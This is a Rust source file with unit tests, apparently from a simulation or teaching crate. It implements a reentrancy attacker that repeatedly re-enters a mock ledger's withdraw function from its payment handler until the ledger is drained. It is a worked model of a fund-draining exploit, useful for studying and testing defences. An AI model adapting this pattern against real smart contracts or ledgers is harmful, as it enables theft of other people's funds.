//! Attacker: recursive withdraw strategy against a ledger
//!
//! Per `attack` invocation the attacker walks
//! `Idle → Seeding → Withdrawing → [Receiving → Withdrawing]* → Drained`:
//! it donates a seed to itself on the target, withdraws the seed, and every
//! time a payout arrives it withdraws the seed again while the target still
//! holds at least that much. There is no depth cap; the target's funds are the
//! only bound.

use std::cell::{Cell, RefCell};
use std::rc::Rc;

use serde::{Deserialize, Serialize};
use tracing::{debug, info, warn};
use types::ids::AccountId;
use types::numeric::Amount;

use crate::bank::{Bank, Receivable};
use crate::context::CallContext;
use crate::errors::AttackError;
use crate::ledger::Ledger;

/// Attacker state within one `attack` invocation.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub enum AttackPhase {
    #[default]
    Idle,
    /// Donating the seed to establish a recorded balance
    Seeding,
    /// Inside a `withdraw` call on the target
    Withdrawing,
    /// Inside the receipt handler
    Receiving,
    /// Attack finished; the target could no longer honour the seed
    Drained,
}

/// Outcome of a completed attack.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackReport {
    pub seed: Amount,
    /// `withdraw` calls issued against the target, first call included
    pub withdraw_calls: u64,
    /// Target funds before seeding minus target funds after the attack
    pub drained: Amount,
    /// Attacker's funds after the attack
    pub attacker_funds: Amount,
    /// Target's funds after the attack
    pub target_funds: Amount,
}

/// Reentrancy attacker contract.
#[derive(Debug)]
pub struct Attacker {
    address: AccountId,
    /// Fixed at deploy; the only identity allowed to call `attack`
    owner: AccountId,
    bank: Rc<Bank>,
    /// Bound for the duration of one attack
    target: RefCell<Option<Rc<Ledger>>>,
    seed: Cell<Amount>,
    phase: Cell<AttackPhase>,
    withdraw_calls: Cell<u64>,
}

impl Attacker {
    /// Deploy an attacker owned by `ctx.sender` and register its receipt handler.
    pub fn deploy(ctx: &CallContext, bank: Rc<Bank>) -> Rc<Self> {
        let attacker = Rc::new(Self {
            address: AccountId::new(),
            owner: ctx.sender,
            bank: Rc::clone(&bank),
            target: RefCell::new(None),
            seed: Cell::new(Amount::ZERO),
            phase: Cell::new(AttackPhase::Idle),
            withdraw_calls: Cell::new(0),
        });
        bank.register(&attacker);
        info!(address = %attacker.address, owner = %attacker.owner, "attacker deployed");
        attacker
    }

    /// The owner identity fixed at deploy.
    pub fn attacker(&self) -> AccountId {
        self.owner
    }

    pub fn address(&self) -> AccountId {
        self.address
    }

    pub fn phase(&self) -> AttackPhase {
        self.phase.get()
    }

    /// `withdraw` calls issued during the current or most recent attack.
    pub fn withdraw_calls(&self) -> u64 {
        self.withdraw_calls.get()
    }

    /// Funds physically held by the attacker contract.
    pub fn funds(&self) -> Amount {
        self.bank.funds_of(&self.address)
    }

    /// Seed `target` and re-enter its withdraw path until it is drained.
    ///
    /// `ctx.value` is added to the attacker's own funds before seeding and
    /// handed back if seeding fails. Fails with [`AttackError::Unauthorized`]
    /// for anyone but the owner, before any state or funds move.
    pub fn attack(
        &self,
        ctx: &CallContext,
        target: Rc<Ledger>,
        seed: Amount,
    ) -> Result<AttackReport, AttackError> {
        if ctx.sender != self.owner {
            warn!(caller = %ctx.sender, owner = %self.owner, "attack rejected: caller is not owner");
            return Err(AttackError::Unauthorized);
        }
        if seed.is_zero() {
            return Err(AttackError::ZeroSeed);
        }
        if matches!(
            self.phase.get(),
            AttackPhase::Seeding | AttackPhase::Withdrawing | AttackPhase::Receiving
        ) {
            return Err(AttackError::InProgress);
        }

        let available = self.funds().checked_add(ctx.value).unwrap_or(Amount::MAX);
        if available < seed {
            return Err(AttackError::InsufficientSeed {
                required: seed,
                available,
            });
        }

        self.bank.transfer(ctx.sender, self.address, ctx.value)?;

        let held_before = target.total_held();
        info!(
            target = %target.address(),
            %seed,
            %held_before,
            "attack started"
        );

        self.target.replace(Some(Rc::clone(&target)));
        self.seed.set(seed);
        self.withdraw_calls.set(0);

        self.phase.set(AttackPhase::Seeding);
        let seeding = CallContext::new(self.address).with_value(seed);
        if let Err(err) = target.donate(&seeding, self.address) {
            self.unbind(AttackPhase::Idle);
            warn!(%err, refund = %ctx.value, "seeding failed, returning attached value");
            self.bank.transfer(self.address, ctx.sender, ctx.value)?;
            return Err(err.into());
        }

        self.withdraw_from(&target);

        let target_funds = target.total_held();
        let report = AttackReport {
            seed,
            withdraw_calls: self.withdraw_calls.get(),
            drained: held_before.saturating_sub(target_funds),
            attacker_funds: self.funds(),
            target_funds,
        };
        self.unbind(AttackPhase::Drained);

        info!(
            withdraw_calls = report.withdraw_calls,
            drained = %report.drained,
            attacker_funds = %report.attacker_funds,
            "attack finished"
        );
        Ok(report)
    }

    fn withdraw_from(&self, target: &Ledger) {
        self.withdraw_calls.set(self.withdraw_calls.get() + 1);
        self.phase.set(AttackPhase::Withdrawing);
        target.withdraw(&CallContext::new(self.address), self.seed.get());
    }

    fn unbind(&self, phase: AttackPhase) {
        self.target.replace(None);
        self.phase.set(phase);
    }
}

impl Receivable for Attacker {
    fn address(&self) -> AccountId {
        self.address
    }

    /// Re-enter the target while it can still pay out the seed.
    fn on_receive(&self, from: AccountId, amount: Amount) {
        let target = self.target.borrow().clone();
        let Some(target) = target else {
            debug!(%from, %amount, "payment received outside an attack");
            return;
        };

        self.phase.set(AttackPhase::Receiving);
        let remaining = target.total_held();
        let seed = self.seed.get();
        debug!(%amount, %remaining, depth = self.withdraw_calls.get(), "payout received");

        if remaining >= seed {
            self.withdraw_from(&target);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::errors::LedgerError;
    use crate::ledger::LedgerConfig;

    fn setup() -> (Rc<Bank>, Rc<Ledger>, AccountId, Rc<Attacker>) {
        let bank = Rc::new(Bank::new());
        let ledger = Ledger::deploy(Rc::clone(&bank), LedgerConfig::default());
        let owner = AccountId::new();
        bank.credit(owner, Amount::units(100)).unwrap();
        let attacker = Attacker::deploy(&CallContext::new(owner), Rc::clone(&bank));
        (bank, ledger, owner, attacker)
    }

    fn fund_ledger(bank: &Bank, ledger: &Ledger, units: u64) {
        let donor = AccountId::new();
        bank.credit(donor, Amount::units(units)).unwrap();
        let ctx = CallContext::new(donor).with_value(Amount::units(units));
        ledger.donate(&ctx, AccountId::new()).unwrap();
    }

    #[test]
    fn test_deploy_sets_owner() {
        let (bank, _ledger, owner, attacker) = setup();
        assert_eq!(attacker.attacker(), owner);
        assert_eq!(attacker.phase(), AttackPhase::Idle);
        assert!(bank.has_receiver(&attacker.address()));
    }

    #[test]
    fn test_attack_rejects_non_owner() {
        let (bank, ledger, _owner, attacker) = setup();
        fund_ledger(&bank, &ledger, 30);
        let eve = AccountId::new();
        bank.credit(eve, Amount::units(5)).unwrap();

        let ctx = CallContext::new(eve).with_value(Amount::units(1));
        let result = attacker.attack(&ctx, Rc::clone(&ledger), Amount::units(1));

        assert_eq!(result, Err(AttackError::Unauthorized));
        assert_eq!(bank.funds_of(&eve), Amount::units(5));
        assert_eq!(attacker.funds(), Amount::ZERO);
        assert_eq!(ledger.total_held(), Amount::units(30));
        assert_eq!(attacker.phase(), AttackPhase::Idle);
    }

    #[test]
    fn test_attack_rejects_zero_seed() {
        let (_bank, ledger, owner, attacker) = setup();
        let result = attacker.attack(&CallContext::new(owner), ledger, Amount::ZERO);
        assert_eq!(result, Err(AttackError::ZeroSeed));
    }

    #[test]
    fn test_attack_requires_seed_funds() {
        let (_bank, ledger, owner, attacker) = setup();
        let result = attacker.attack(&CallContext::new(owner), ledger, Amount::units(2));
        assert_eq!(
            result,
            Err(AttackError::InsufficientSeed {
                required: Amount::units(2),
                available: Amount::ZERO,
            })
        );
    }

    #[test]
    fn test_attack_drains_target() {
        let (bank, ledger, owner, attacker) = setup();
        fund_ledger(&bank, &ledger, 30);

        let ctx = CallContext::new(owner).with_value(Amount::units(1));
        let report = attacker
            .attack(&ctx, Rc::clone(&ledger), Amount::units(1))
            .unwrap();

        assert_eq!(report.withdraw_calls, 31);
        assert_eq!(report.drained, Amount::units(30));
        assert_eq!(report.attacker_funds, Amount::units(31));
        assert_eq!(report.target_funds, Amount::ZERO);
        assert_eq!(attacker.phase(), AttackPhase::Drained);
        assert_eq!(ledger.balance_of(&attacker.address()), Amount::ZERO);
    }

    #[test]
    fn test_attack_stops_when_remainder_below_seed() {
        let (bank, ledger, owner, attacker) = setup();
        fund_ledger(&bank, &ledger, 30);

        // 34 held after seeding; 8 payouts of 4 leave 2 behind
        let ctx = CallContext::new(owner).with_value(Amount::units(4));
        let report = attacker
            .attack(&ctx, Rc::clone(&ledger), Amount::units(4))
            .unwrap();

        assert_eq!(report.withdraw_calls, 8);
        assert_eq!(report.target_funds, Amount::units(2));
        assert_eq!(report.attacker_funds, Amount::units(32));
    }

    #[test]
    fn test_failed_seeding_returns_attached_value() {
        let (bank, ledger, owner, attacker) = setup();
        let whale = AccountId::new();
        bank.credit(whale, Amount::MAX).unwrap();
        // Attacker's recorded balance is already at the ceiling
        let ctx = CallContext::new(whale).with_value(Amount::MAX);
        ledger.donate(&ctx, attacker.address()).unwrap();

        let ctx = CallContext::new(owner).with_value(Amount::units(1));
        let result = attacker.attack(&ctx, Rc::clone(&ledger), Amount::units(1));

        assert!(matches!(
            result,
            Err(AttackError::Ledger(LedgerError::Overflow))
        ));
        assert_eq!(bank.funds_of(&owner), Amount::units(100));
        assert_eq!(attacker.funds(), Amount::ZERO);
        assert_eq!(ledger.total_held(), Amount::MAX);
        assert_eq!(attacker.phase(), AttackPhase::Idle);
    }

    #[test]
    fn test_receipt_outside_attack_is_ignored() {
        let (bank, ledger, _owner, attacker) = setup();
        fund_ledger(&bank, &ledger, 10);
        let payer = AccountId::new();
        bank.credit(payer, Amount::units(1)).unwrap();

        bank.send(payer, attacker.address(), Amount::units(1)).unwrap();

        assert_eq!(attacker.phase(), AttackPhase::Idle);
        assert_eq!(attacker.withdraw_calls(), 0);
        assert_eq!(ledger.total_held(), Amount::units(10));
    }

    #[test]
    fn test_attack_can_run_again_after_drain() {
        let (bank, ledger, owner, attacker) = setup();
        fund_ledger(&bank, &ledger, 5);
        attacker
            .attack(
                &CallContext::new(owner).with_value(Amount::units(1)),
                Rc::clone(&ledger),
                Amount::units(1),
            )
            .unwrap();

        fund_ledger(&bank, &ledger, 5);
        let report = attacker
            .attack(&CallContext::new(owner), Rc::clone(&ledger), Amount::units(1))
            .unwrap();

        assert_eq!(report.drained, Amount::units(5));
        assert_eq!(attacker.funds(), Amount::units(11));
    }
}
